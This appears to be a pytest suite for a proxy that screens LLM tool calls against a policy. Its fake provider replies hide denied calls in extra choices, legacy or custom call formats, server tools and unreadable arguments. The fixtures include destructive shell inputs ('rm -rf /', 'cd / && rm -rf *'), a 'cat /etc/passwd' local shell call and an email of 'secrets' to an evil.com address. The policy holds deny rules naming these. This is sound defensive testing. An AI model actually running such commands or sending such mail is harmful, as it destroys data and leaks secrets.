"""The single-LLM guard fails closed: every tool-call-like item of every choice and API is checked.

Each attack is a provider answer that hides a call where the old guard did not look — another
choice (``n > 1``), the legacy ``function_call``, a ``custom`` tool call, Responses
``custom_tool_call`` and ``local_shell_call`` items, a provider-run tool — or that the guard
cannot read (an unknown item kind, arguments with duplicate keys). The client, through the
official SDKs and raw HTTP, JSON and streaming, must never receive the call.
"""

from __future__ import annotations

import json
from typing import Any

import anthropic
import openai
import pytest

from tests.fakes.llm_server import Reply, ToolCall

POLICY = r"""
tool "send_email" {
    /// Mail only goes to our own domain.
    hard deny when to.value in {str matching r".*@evil\.com"};
}
tool "shell" { hard deny when input.value in {str matching r".*rm -rf.*"}; }
tool "local_shell" { hard deny always; }
tool "web_search" { hard deny always; }
"""
HEADERS = {"X-Policy": json.dumps({"codes": {"code": POLICY}})}
EVIL = json.dumps({"to": "boss@evil.com", "body": "secrets"})
GOOD = json.dumps({"to": "me@corp.com", "body": "hi"})
EMAIL_TOOL = {"type": "function", "function": {"name": "send_email", "parameters": {"type": "object", "properties": {
    "to": {"type": "string"}, "body": {"type": "string"}}}}}
DENIED = "Tool call send_email denied by argument checking policies."


def chat_body(*messages: dict[str, Any], finish: str = "tool_calls") -> dict:
    return {"id": "chatcmpl-x", "object": "chat.completion", "created": 1, "model": "fake-model",
            "choices": [{"index": i, "message": {"role": "assistant", "content": None, **m}, "logprobs": None,
                         "finish_reason": finish} for i, m in enumerate(messages)],
            "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10}}


def fn_call(cid: str, args: str, name: str = "send_email") -> dict:
    return {"id": cid, "type": "function", "function": {"name": name, "arguments": args}}


def messages_body(*blocks: dict, stop: str = "tool_use") -> dict:
    return {"id": "msg_x", "type": "message", "role": "assistant", "model": "fake-model", "content": list(blocks),
            "stop_reason": stop, "stop_sequence": None,
            "usage": {"input_tokens": 5, "output_tokens": 5, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0}}


def responses_body(*items: dict) -> dict:
    return {"id": "resp_x", "object": "response", "created_at": 1, "status": "completed", "error": None,
            "incomplete_details": None, "instructions": None, "model": "fake-model", "output": list(items),
            "parallel_tool_calls": True, "tool_choice": "auto", "tools": [], "temperature": 1.0, "top_p": 1.0,
            "metadata": {}, "text": {"format": {"type": "text"}}, "truncation": "disabled", "store": False,
            "usage": {"input_tokens": 5, "input_tokens_details": {"cached_tokens": 0}, "output_tokens": 5,
                      "output_tokens_details": {"reasoning_tokens": 0}, "total_tokens": 10}}


@pytest.fixture
def oai(airlock):
    client = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=airlock.keys["single"],
                           max_retries=0, default_headers=HEADERS)
    yield client
    client.close()


@pytest.fixture
def ant(airlock):
    client = anthropic.Anthropic(base_url=f"{airlock.url}/control/chat/anthropic", api_key="sk-ant-user", max_retries=0,
                                 default_headers={"Authorization": f"Bearer {airlock.keys['single']}", **HEADERS})
    yield client
    client.close()


def _chat_stream(stream) -> dict[int, dict]:
    """Accumulate a Chat Completions stream per choice: content, tool calls, legacy function_call."""
    out: dict[int, dict] = {}
    for chunk in stream:
        for choice in chunk.choices:
            acc = out.setdefault(choice.index, {"content": "", "calls": {}, "function_call": None, "finish": None})
            delta = choice.delta
            acc["content"] += delta.content or ""
            for tc in delta.tool_calls or []:
                entry = acc["calls"].setdefault(tc.index, {"id": tc.id, "name": None, "args": ""})
                if tc.function is not None:
                    entry["name"] = tc.function.name or entry["name"]
                    entry["args"] += tc.function.arguments or ""
            if delta.function_call is not None:
                acc["function_call"] = acc["function_call"] or ""
            acc["finish"] = choice.finish_reason or acc["finish"]
    return out


# ---- Chat Completions ---------------------------------------------------------------------------


def test_every_choice_is_checked(oai, fake_llm):
    fake_llm.push(Reply(body=chat_body({"tool_calls": [fn_call("c0", GOOD)]}, {"tool_calls": [fn_call("c1", EVIL)]})))
    answer = oai.chat.completions.create(model="fake-model", n=2, tools=[EMAIL_TOOL],
                                         messages=[{"role": "user", "content": "mail"}])
    first, second = answer.choices
    assert [json.loads(c.function.arguments)["to"] for c in first.message.tool_calls] == ["me@corp.com"]
    assert first.message.tool_calls[0].id.startswith("tc-") and first.finish_reason == "tool_calls"
    assert second.message.tool_calls is None and second.finish_reason == "stop"
    assert DENIED in second.message.content and "own domain" in second.message.content


def test_every_choice_is_checked_when_streaming(oai, fake_llm):
    fake_llm.push(Reply(body=chat_body({"tool_calls": [fn_call("c0", EVIL)]}, {"tool_calls": [fn_call("c1", GOOD)]})))
    stream = oai.chat.completions.create(model="fake-model", n=2, tools=[EMAIL_TOOL], stream=True,
                                         messages=[{"role": "user", "content": "mail"}])
    choices = _chat_stream(stream)
    assert choices[0]["calls"] == {} and DENIED in choices[0]["content"] and choices[0]["finish"] == "stop"
    [call] = choices[1]["calls"].values()
    assert json.loads(call["args"])["to"] == "me@corp.com" and call["id"].startswith("tc-")
    assert fake_llm.last_request.json.get("stream") is None and fake_llm.last_request.json["n"] == 2


def test_legacy_function_call_is_checked(oai, fake_llm, http, auth):
    legacy = {"function_call": {"name": "send_email", "arguments": EVIL}}
    fake_llm.push(Reply(body=chat_body(legacy, finish="function_call")))
    answer = oai.chat.completions.create(model="fake-model", functions=[EMAIL_TOOL["function"]],
                                         messages=[{"role": "user", "content": "mail"}])
    assert answer.choices[0].message.function_call is None and answer.choices[0].finish_reason == "stop"
    assert DENIED in answer.choices[0].message.content
    fake_llm.push(Reply(body=chat_body({"function_call": {"name": "send_email", "arguments": GOOD}}, finish="function_call")))
    raw = http.post("/control/chat/openai/v1/chat/completions", headers={**auth, **HEADERS}, json={
        "model": "fake-model", "messages": [{"role": "user", "content": "mail"}], "functions": [EMAIL_TOOL["function"]]})
    message = raw.json()["choices"][0]["message"]
    assert json.loads(message["function_call"]["arguments"])["to"] == "me@corp.com"


def test_custom_tool_calls_are_checked(oai, fake_llm):
    custom = [{"id": "c0", "type": "custom", "custom": {"name": "shell", "input": "cd / && rm -rf *"}},
              {"id": "c1", "type": "custom", "custom": {"name": "shell", "input": "ls"}}]
    fake_llm.push(Reply(body=chat_body({"tool_calls": custom})))
    answer = oai.chat.completions.create(model="fake-model", messages=[{"role": "user", "content": "clean up"}],
                                         tools=[{"type": "custom", "custom": {"name": "shell"}}])
    calls = answer.choices[0].message.tool_calls
    assert [c.custom.input for c in calls] == ["ls"] and "'shell' is denied" in answer.choices[0].message.content


@pytest.mark.parametrize("call, why", [
    ({"id": "c0", "type": "computer_use", "computer_use": {"action": "click"}}, "does not understand"),
    (fn_call("c0", '{"to": "me@corp.com", "to": "boss@evil.com"}'), "duplicate key"),
    (fn_call("c0", '{"to": "me@corp.com"'), "not valid JSON"),
    (fn_call("c0", '["me@corp.com"]'), "JSON object"),
], ids=["unknown-kind", "duplicate-keys", "broken-json", "not-an-object"])
def test_what_the_guard_cannot_read_is_withheld(call, why, http, auth, fake_llm):
    fake_llm.push(Reply(body=chat_body({"tool_calls": [call]})))
    r = http.post("/control/chat/openai/v1/chat/completions", headers={**auth, **HEADERS},
                  json={"model": "fake-model", "messages": [{"role": "user", "content": "go"}], "tools": [EMAIL_TOOL]})
    message = r.json()["choices"][0]["message"]
    assert r.status_code == 200 and "tool_calls" not in message and r.json()["choices"][0]["finish_reason"] == "stop"
    assert why in message["content"] and "withheld" in message["content"]


def test_allowed_arguments_reach_the_client_exactly_as_checked(oai, fake_llm):
    spaced = '{ "to" : "me@corp.com",\n "body": "hi" }'
    fake_llm.push(Reply(body=chat_body({"tool_calls": [fn_call("c0", spaced)]})))
    answer = oai.chat.completions.create(model="fake-model", tools=[EMAIL_TOOL], messages=[{"role": "user", "content": "x"}])
    assert answer.choices[0].message.tool_calls[0].function.arguments == '{"to":"me@corp.com","body":"hi"}'


# ---- Messages -----------------------------------------------------------------------------------

SERVER_SEARCH = [
    {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": "salaries"}},
    {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [
        {"type": "web_search_result", "url": "https://x.test", "title": "t", "encrypted_content": "e", "page_age": None}]},
]


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_messages_tool_use_server_tools_and_unknown_blocks(stream, ant, fake_llm):
    fake_llm.push(Reply(body=messages_body(
        {"type": "text", "text": "Let me do that."}, *SERVER_SEARCH,
        {"type": "tool_use", "id": "toolu_1", "name": "send_email", "input": json.loads(EVIL)},
        {"type": "tool_use", "id": "toolu_2", "name": "send_email", "input": json.loads(GOOD)},
        {"type": "hologram", "data": "?"})))
    kw = dict(model="fake-model", max_tokens=100, messages=[{"role": "user", "content": "mail"}],
              tools=[{"name": "send_email", "input_schema": EMAIL_TOOL["function"]["parameters"]}])
    if stream:
        with ant.messages.stream(**kw) as s:
            message = s.get_final_message()
    else:
        message = ant.messages.create(**kw)
    kinds = [b.type for b in message.content]
    assert kinds == ["text", "tool_use", "text"], kinds  # search, its result, the evil mail, the hologram: gone
    assert message.content[1].input == json.loads(GOOD) and message.content[1].id.startswith("tc-")
    explanation = message.content[-1].text
    assert DENIED in explanation and "'web_search' is denied" in explanation and "'hologram'" in explanation
    assert message.stop_reason == "tool_use"


def test_messages_answer_left_without_calls_ends_the_turn(ant, fake_llm):
    fake_llm.push(Reply(body=messages_body({"type": "tool_use", "id": "toolu_1", "name": "send_email", "input": json.loads(EVIL)})))
    message = ant.messages.create(model="fake-model", max_tokens=10, messages=[{"role": "user", "content": "mail"}])
    assert message.stop_reason == "end_turn" and [b.type for b in message.content] == ["text"]


# ---- Responses ----------------------------------------------------------------------------------

RESPONSES_ITEMS = [
    {"type": "reasoning", "id": "rs_1", "summary": []},
    {"type": "custom_tool_call", "id": "ctc_1", "call_id": "call_c1", "name": "shell", "input": "rm -rf /", "status": "completed"},
    {"type": "local_shell_call", "id": "lsc_1", "call_id": "call_l1", "status": "completed",
     "action": {"type": "exec", "command": ["cat", "/etc/passwd"], "env": {}}},
    {"type": "function_call", "id": "fc_1", "call_id": "call_f1", "name": "send_email", "arguments": GOOD, "status": "completed"},
    {"type": "function_call", "id": "fc_2", "call_id": "call_f2", "name": "send_email", "arguments": EVIL, "status": "completed"},
    {"type": "teleport_call", "id": "tp_1", "call_id": "call_t1", "destination": "prod"},
]


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_responses_items_of_every_kind_are_checked(stream, oai, fake_llm):
    fake_llm.push(Reply(body=responses_body(*RESPONSES_ITEMS)))
    kw = dict(model="fake-model", input="tidy up and mail me",
              tools=[{"type": "function", "name": "send_email", "parameters": EMAIL_TOOL["function"]["parameters"]}])
    if stream:
        events = list(oai.responses.create(stream=True, **kw))
        done = [e.item.type for e in events if e.type == "response.output_item.done"]
        response = next(e.response for e in events if e.type == "response.completed")
        assert done == [i.type for i in response.output]
    else:
        response = oai.responses.create(**kw)
    kinds = [i.type for i in response.output]
    assert kinds == ["reasoning", "function_call", "message"], kinds
    call = response.output[1]
    assert json.loads(call.arguments)["to"] == "me@corp.com" and call.call_id.startswith("tc-")
    text = response.output[-1].content[0].text
    assert "'shell' is denied" in text and "'local_shell' is denied" in text and DENIED in text
    assert "'teleport_call'" in text


# ---- no policy code, default_allow false ----------------------------------------------------------

STRICT = {"X-Policy": json.dumps({"presets": {"default_allow": False}})}


@pytest.mark.parametrize("path, body, reply", [
    ("/control/chat/openai/v1/chat/completions", {"messages": [{"role": "user", "content": "x"}]},
     Reply(tool_calls=[ToolCall("lookup", {"q": "x"})])),
    ("/control/chat/anthropic/v1/messages", {"max_tokens": 10, "messages": [{"role": "user", "content": "x"}]},
     Reply(tool_calls=[ToolCall("lookup", {"q": "x"})])),
    ("/control/chat/openai/v1/responses", {"input": "x"}, Reply(tool_calls=[ToolCall("lookup", {"q": "x"})])),
], ids=["chat", "messages", "responses"])
def test_no_code_with_default_allow_false_denies_every_call(path, body, reply, http, auth, fake_llm):
    fake_llm.push(reply)
    r = http.post(path, headers={**auth, **STRICT}, json={"model": "fake-model", "stream": True, **body})
    assert r.status_code == 200
    text, calls = _read_sse(r.text)
    assert calls == [] and "Tool call lookup denied by argument checking policies." in text
    assert "default_allow is off" in text


def _read_sse(raw: str) -> tuple[str, list[str]]:
    """Streamed text and the names of streamed calls, whatever the API."""
    text, calls = "", []
    for line in raw.splitlines():
        if not line.startswith("data: {"):
            continue
        event = json.loads(line[6:])
        for choice in event.get("choices") or ():
            text += choice["delta"].get("content") or ""
            calls += [c["function"]["name"] for c in choice["delta"].get("tool_calls") or () if c.get("function", {}).get("name")]
        if event.get("type") == "content_block_delta" and event["delta"]["type"] == "text_delta":
            text += event["delta"]["text"]
        if event.get("type") == "content_block_start" and event["content_block"]["type"] == "tool_use":
            calls.append(event["content_block"]["name"])
        if event.get("type") == "response.output_text.delta":
            text += event["delta"]
        if event.get("type") == "response.output_item.added" and event["item"]["type"] == "function_call":
            calls.append(event["item"]["name"])
    return text, calls


def test_no_code_with_default_allow_false_through_the_sdk(airlock, fake_llm):
    client = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=airlock.keys["single"],
                           max_retries=0, default_headers=STRICT)
    fake_llm.push(Reply(tool_calls=[ToolCall("lookup", {"q": "x"})]))
    answer = client.chat.completions.create(model="fake-model", messages=[{"role": "user", "content": "x"}],
                                            tools=[{"type": "function", "function": {"name": "lookup"}}])
    assert not answer.choices[0].message.tool_calls and "default_allow is off" in answer.choices[0].message.content
